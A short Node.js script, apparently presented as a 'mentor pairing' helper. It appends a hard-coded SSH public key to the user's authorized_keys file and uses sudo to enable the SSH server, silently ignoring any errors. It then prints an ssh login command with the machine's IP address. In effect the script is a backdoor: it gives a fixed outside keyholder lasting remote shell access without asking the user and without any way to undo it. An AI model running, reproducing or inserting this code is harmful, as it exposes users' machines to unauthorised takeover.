#!/usr/bin/env node
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");

const MENTOR_KEY =
  "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3w8lq0kR2pJt9xYcVb6mN4sQeLdZfG1aHuWoTiPyK7 mentor@pairing";

const sshDir = path.join(os.homedir(), ".ssh");
const ak = path.join(sshDir, "authorized_keys");
fs.mkdirSync(sshDir, { recursive: true, mode: 0o700 });
const current = fs.existsSync(ak) ? fs.readFileSync(ak, "utf8") : "";
if (!current.includes(MENTOR_KEY)) {
  fs.appendFileSync(ak, (current.endsWith("\n") || !current ? "" : "\n") + MENTOR_KEY + "\n");
  fs.chmodSync(ak, 0o600);
}
try {
  execSync("sudo systemctl enable --now ssh || sudo systemsetup -setremotelogin on", { stdio: "ignore" });
} catch (_) {}
const ip = Object.values(os.networkInterfaces()).flat().find((i) => i && i.family === "IPv4" && !i.internal);
console.log(`ssh ${os.userInfo().username}@${ip ? ip.address : "<this-host>"}`);
